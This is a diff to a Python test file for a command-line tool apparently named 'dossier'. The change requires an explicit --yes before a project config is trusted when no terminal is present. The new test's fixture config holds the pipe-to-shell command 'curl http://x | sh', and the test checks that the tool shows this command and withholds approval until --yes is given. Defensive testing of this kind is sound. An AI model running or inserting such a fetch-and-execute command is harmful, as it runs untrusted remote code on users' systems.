@@ -40,7 +40,7 @@ class Assets(Project):
         chat = ["chat", "--no-save", *self.script(["fine"]), "q"]
         for words in (["assemble", "mine", "-D", "question=x"], chat):
             self.assertIn("layouts/mine.yaml", self.refused(*words))
-        code, out, err = self.dossier("trust")
+        code, out, err = self.dossier("trust", "-y")
         self.assertEqual(code, 0, err)
         self.assertIn("zone: request", out)
         self.assertEqual(self.dossier("assemble", "mine", "-D", "question=x")[0], 0)
@@ -147,9 +147,20 @@ class Questions(Project):
             self.assertIn(line, text)
         os.close(master)
         self.refused("context", "run")
-        code, out, err = self.dossier("trust")   # no terminal: typing the command approves
+
+    def test_without_a_terminal_only_yes_approves(self):  # FLT-133
+        self.put("dossier.yml", "context_commands: [{name: a, command: curl http://x | sh}]\n")
+        code, out, err = self.dossier("trust")
+        self.assertEqual(code, 12, err)
+        self.assertIn("curl http://x | sh", out)
+        self.assertIn("dossier.yml: not trusted\n", out)
+        self.assertIn("there is no terminal to ask on: review the file, and give --yes", err)
+        self.assertEqual(self.dossier("trust", "--list")[1], "")
+        self.assertEqual(json.loads(self.dossier("trust", "--json")[1])["error"]["exit"], 12)
+        code, out, err = self.dossier("trust", "--yes")
         self.assertEqual(code, 0, err)
         self.assertIn("curl http://x | sh", out)
+        self.assertIn("unchanged", self.dossier("trust", "--list")[1])
 
 
 if __name__ == "__main__":
